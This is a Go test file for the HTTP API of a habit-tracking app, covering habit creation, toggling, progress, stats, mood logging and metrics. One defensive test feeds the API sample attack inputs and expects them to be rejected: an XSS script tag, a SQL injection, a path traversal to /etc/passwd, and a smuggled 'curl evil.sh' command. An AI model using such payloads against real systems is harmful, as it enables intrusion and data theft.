package api

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"testing"
	"time"

	"github.com/gin-gonic/gin"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/3grands/habitflow/internal/coach"
	"github.com/3grands/habitflow/internal/models"
	"github.com/3grands/habitflow/internal/service"
	"github.com/3grands/habitflow/internal/storage/sqlite"
	"github.com/3grands/habitflow/internal/utils"
)

func setupTestRouter(t *testing.T) *gin.Engine {
	t.Helper()
	gin.SetMode(gin.TestMode)

	store := sqlite.NewStore(filepath.Join(t.TempDir(), "api.db"))
	require.NoError(t, store.Init())
	t.Cleanup(func() { store.Close() })

	clock := utils.FixedClock(time.Date(2025, 6, 10, 9, 0, 0, 0, time.UTC))
	svc := service.NewHabitService(store, clock, time.UTC)
	return NewRouter(NewHandler(svc, coach.RuleCoach{}))
}

func doRequest(t *testing.T, r *gin.Engine, method, path, body string) *httptest.ResponseRecorder {
	t.Helper()
	var reader *bytes.Reader
	if body != "" {
		reader = bytes.NewReader([]byte(body))
	} else {
		reader = bytes.NewReader(nil)
	}
	req := httptest.NewRequest(method, path, reader)
	if body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	w := httptest.NewRecorder()
	r.ServeHTTP(w, req)
	return w
}

func decode[T any](t *testing.T, w *httptest.ResponseRecorder) T {
	t.Helper()
	var v T
	require.NoError(t, json.Unmarshal(w.Body.Bytes(), &v), "body: %s", w.Body.String())
	return v
}

func createTestHabit(t *testing.T, r *gin.Engine, body string) models.Habit {
	t.Helper()
	w := doRequest(t, r, http.MethodPost, "/api/habits", body)
	require.Equal(t, http.StatusCreated, w.Code, w.Body.String())
	return decode[models.Habit](t, w)
}

func TestHealth(t *testing.T) {
	r := setupTestRouter(t)
	w := doRequest(t, r, http.MethodGet, "/api/health", "")

	assert.Equal(t, http.StatusOK, w.Code)
	assert.JSONEq(t, `{"status":"ok"}`, w.Body.String())
}

func TestCreateAndListHabits(t *testing.T) {
	r := setupTestRouter(t)
	h := createTestHabit(t, r, `{"name":"  Drink   water ","category":"health","goal":8,"unit":"glasses"}`)

	assert.Equal(t, "Drink water", h.Name)
	assert.Equal(t, 8, h.Goal)
	assert.Equal(t, 0, h.Streak)
	assert.True(t, h.IsActive)

	w := doRequest(t, r, http.MethodGet, "/api/habits", "")
	require.Equal(t, http.StatusOK, w.Code)
	list := decode[[]models.HabitWithProgress](t, w)
	require.Len(t, list, 1)
	assert.Equal(t, h.ID, list[0].ID)
	assert.Equal(t, 0, list[0].TodayProgress)
	assert.False(t, list[0].IsCompletedToday)
}

func TestCreateHabitValidation(t *testing.T) {
	r := setupTestRouter(t)

	tests := []struct {
		name string
		body string
	}{
		{name: "missing name", body: `{"category":"health"}`},
		{name: "bad category", body: `{"name":"Run","category":"cardio"}`},
		{name: "bad reminder", body: `{"name":"Run","category":"fitness","reminderTime":"25:00"}`},
		{name: "malformed json", body: `{"name":`},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w := doRequest(t, r, http.MethodPost, "/api/habits", tt.body)
			assert.Equal(t, http.StatusBadRequest, w.Code)
			assert.Contains(t, w.Body.String(), `"error"`)
		})
	}
}

func TestSecurityFilterRejects(t *testing.T) {
	r := setupTestRouter(t)

	bodies := []string{
		`{"name":"<script>alert(1)</script>","category":"health"}`,
		`{"name":"x'; DROP TABLE habits; --","category":"health"}`,
		`{"name":"../../etc/passwd","category":"health"}`,
		`{"name":"run && curl evil.sh","category":"health"}`,
	}

	for _, body := range bodies {
		w := doRequest(t, r, http.MethodPost, "/api/habits", body)
		assert.Equal(t, http.StatusBadRequest, w.Code, body)
	}

	w := doRequest(t, r, http.MethodGet, "/api/habits", "")
	assert.JSONEq(t, `[]`, w.Body.String())
}

func TestToggleFlow(t *testing.T) {
	r := setupTestRouter(t)
	h := createTestHabit(t, r, `{"name":"Read","category":"learning"}`)
	path := fmt.Sprintf("/api/habits/%d/toggle", h.ID)

	w := doRequest(t, r, http.MethodPost, path, "")
	require.Equal(t, http.StatusOK, w.Code, w.Body.String())
	on := decode[models.Transition](t, w)
	assert.True(t, on.Completion.IsCompleted)
	assert.Equal(t, 1, on.Habit.Streak)

	w = doRequest(t, r, http.MethodPost, path, "")
	require.Equal(t, http.StatusOK, w.Code)
	off := decode[models.Transition](t, w)
	assert.False(t, off.Completion.IsCompleted)
	assert.Equal(t, 0, off.Habit.Streak)
	assert.Nil(t, off.Completion.CompletedAt)
}

func TestCompleteUndoIdempotent(t *testing.T) {
	r := setupTestRouter(t)
	h := createTestHabit(t, r, `{"name":"Read","category":"learning"}`)

	for i := 0; i < 2; i++ {
		w := doRequest(t, r, http.MethodPost, fmt.Sprintf("/api/habits/%d/complete", h.ID), "")
		require.Equal(t, http.StatusOK, w.Code)
		assert.Equal(t, 1, decode[models.Transition](t, w).Habit.Streak)
	}
	for i := 0; i < 2; i++ {
		w := doRequest(t, r, http.MethodPost, fmt.Sprintf("/api/habits/%d/undo", h.ID), "")
		require.Equal(t, http.StatusOK, w.Code)
		assert.Equal(t, 0, decode[models.Transition](t, w).Habit.Streak)
	}
}

func TestCompleteOnRecordedDate(t *testing.T) {
	r := setupTestRouter(t)
	h := createTestHabit(t, r, `{"name":"Read","category":"learning"}`)
	path := fmt.Sprintf("/api/habits/%d/complete", h.ID)

	w := doRequest(t, r, http.MethodPost, path, `{"date":"2025-06-09"}`)
	require.Equal(t, http.StatusOK, w.Code, w.Body.String())
	tr := decode[models.Transition](t, w)
	assert.Equal(t, "2025-06-09", tr.Completion.Date)
	assert.Equal(t, 1, tr.Habit.Streak)

	w = doRequest(t, r, http.MethodPost, path, "")
	require.Equal(t, http.StatusOK, w.Code)
	assert.Equal(t, 2, decode[models.Transition](t, w).Habit.Streak)

	tests := []struct {
		name string
		body string
	}{
		{name: "bad format", body: `{"date":"June 9"}`},
		{name: "far future", body: `{"date":"2025-07-01"}`},
		{name: "malformed json", body: `{"date":`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w := doRequest(t, r, http.MethodPost, fmt.Sprintf("/api/habits/%d/undo", h.ID), tt.body)
			assert.Equal(t, http.StatusBadRequest, w.Code, w.Body.String())
		})
	}
}

func TestProgress(t *testing.T) {
	r := setupTestRouter(t)
	h := createTestHabit(t, r, `{"name":"Water","category":"health","goal":8,"unit":"glasses"}`)
	path := fmt.Sprintf("/api/habits/%d/progress", h.ID)

	var last models.Transition
	for i := 0; i < 5; i++ {
		w := doRequest(t, r, http.MethodPost, path, `{"delta":2}`)
		require.Equal(t, http.StatusOK, w.Code, w.Body.String())
		last = decode[models.Transition](t, w)
	}
	assert.Equal(t, 8, last.Completion.Progress)
	assert.True(t, last.Completion.IsCompleted)

	w := doRequest(t, r, http.MethodPost, path, `{"delta":-1}`)
	require.Equal(t, http.StatusOK, w.Code)
	down := decode[models.Transition](t, w)
	assert.Equal(t, 7, down.Completion.Progress)
	assert.False(t, down.Completion.IsCompleted)
	assert.Equal(t, 0, down.Habit.Streak)

	w = doRequest(t, r, http.MethodPost, path, "")
	require.Equal(t, http.StatusOK, w.Code)
	assert.Equal(t, 8, decode[models.Transition](t, w).Completion.Progress)
}

func TestUpdateHabit(t *testing.T) {
	r := setupTestRouter(t)
	h := createTestHabit(t, r, `{"name":"Read","category":"learning"}`)
	path := fmt.Sprintf("/api/habits/%d", h.ID)

	w := doRequest(t, r, http.MethodPatch, path, `{"goal":3,"unit":"chapters","userId":42,"createdAt":"1999-01-01T00:00:00Z"}`)
	require.Equal(t, http.StatusOK, w.Code, w.Body.String())
	updated := decode[models.Habit](t, w)
	assert.Equal(t, 3, updated.Goal)
	assert.Equal(t, "chapters", updated.Unit)
	assert.Equal(t, h.UserID, updated.UserID)
	assert.True(t, updated.CreatedAt.Equal(h.CreatedAt))

	w = doRequest(t, r, http.MethodPatch, path, `{"userId":42}`)
	assert.Equal(t, http.StatusBadRequest, w.Code)

	w = doRequest(t, r, http.MethodPatch, "/api/habits/999", `{"goal":2}`)
	assert.Equal(t, http.StatusNotFound, w.Code)
	assert.JSONEq(t, `{"error":"Habit not found"}`, w.Body.String())
}

func TestDeleteHabit(t *testing.T) {
	r := setupTestRouter(t)
	h := createTestHabit(t, r, `{"name":"Read","category":"learning"}`)
	path := fmt.Sprintf("/api/habits/%d", h.ID)

	w := doRequest(t, r, http.MethodDelete, path, "")
	require.Equal(t, http.StatusOK, w.Code)
	assert.JSONEq(t, `{"success":true}`, w.Body.String())

	w = doRequest(t, r, http.MethodDelete, path, "")
	assert.Equal(t, http.StatusNotFound, w.Code)

	w = doRequest(t, r, http.MethodGet, path, "")
	assert.Equal(t, http.StatusNotFound, w.Code)

	w = doRequest(t, r, http.MethodPost, path+"/toggle", "")
	assert.Equal(t, http.StatusNotFound, w.Code)
}

func TestInvalidID(t *testing.T) {
	r := setupTestRouter(t)
	w := doRequest(t, r, http.MethodGet, "/api/habits/abc", "")
	assert.Equal(t, http.StatusBadRequest, w.Code)
}

func TestStats(t *testing.T) {
	r := setupTestRouter(t)
	a := createTestHabit(t, r, `{"name":"A","category":"health"}`)
	createTestHabit(t, r, `{"name":"B","category":"health"}`)

	doRequest(t, r, http.MethodPost, fmt.Sprintf("/api/habits/%d/toggle", a.ID), "")

	w := doRequest(t, r, http.MethodGet, "/api/habits/stats", "")
	require.Equal(t, http.StatusOK, w.Code)
	stats := decode[models.HabitStats](t, w)
	assert.Equal(t, "1/2", stats.TodayProgress)
	assert.Equal(t, 0.5, stats.CompletionRate)
	assert.Len(t, stats.Weekly, 7)
}

func TestMoodAndCoaching(t *testing.T) {
	r := setupTestRouter(t)

	w := doRequest(t, r, http.MethodPost, "/api/mood", `{"mood":6}`)
	assert.Equal(t, http.StatusBadRequest, w.Code)

	w = doRequest(t, r, http.MethodPost, "/api/mood", `{"mood":4,"note":"rested"}`)
	require.Equal(t, http.StatusCreated, w.Code, w.Body.String())

	w = doRequest(t, r, http.MethodGet, "/api/mood?days=7", "")
	require.Equal(t, http.StatusOK, w.Code)
	assert.Len(t, decode[[]models.MoodEntry](t, w), 1)

	w = doRequest(t, r, http.MethodGet, "/api/coaching/tip", "")
	require.Equal(t, http.StatusOK, w.Code)
	assert.NotEmpty(t, decode[TipResponse](t, w).Tip)
}

func TestMetricsEndpoint(t *testing.T) {
	r := setupTestRouter(t)
	doRequest(t, r, http.MethodGet, "/api/health", "")

	w := doRequest(t, r, http.MethodGet, "/metrics", "")
	require.Equal(t, http.StatusOK, w.Code)
	assert.Contains(t, w.Body.String(), "habitflow_http_requests_total")
}
